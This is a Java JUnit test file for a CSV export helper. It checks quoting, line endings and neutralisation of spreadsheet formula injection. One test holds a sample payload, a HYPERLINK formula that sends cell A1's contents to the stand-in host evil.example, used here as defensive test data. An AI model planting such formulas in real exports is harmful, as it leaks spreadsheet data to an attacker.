package org.learningledger.query.history;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class ExportLineTest {

    @Test
    void givenPlainFields_thenUnquotedAndCrlfTerminated() {
        assertThat(ExportLine.csv(Arrays.asList("a", 1, null, "Ärger"))).isEqualTo("a,1,,Ärger\r\n");
    }

    @Test
    void givenCommasQuotesAndLineBreaks_thenQuotedWithQuotesDoubled() {
        assertThat(ExportLine.csv(Arrays.asList("a,b", "say \"hi\"", "two\nlines", "cr\rhere")))
                .isEqualTo("\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\"cr\rhere\"\r\n");
    }

    @Test
    void givenTextsASpreadsheetWouldRunAsFormulas_thenEachIsPrefixedWithAnApostropheAndKeptWhole() throws IOException {
        String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        List<String> texts = List.of(hyperlink, "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\r=1", "a=1", "-");

        CSVRecord read = CSVParser.parse(ExportLine.csv(texts), CSVFormat.RFC4180).getRecords().get(0);

        assertThat(read.toList()).containsExactly("'" + hyperlink, "'+1+2", "'-2+3", "'@SUM(A1)", "'\tcmd", "'\r=1",
                "a=1", "'-");
    }

    @Test
    void givenNumbers_thenNotTouched() {
        assertThat(ExportLine.csv(Arrays.asList(-3, 2))).isEqualTo("-3,2\r\n");
    }
}
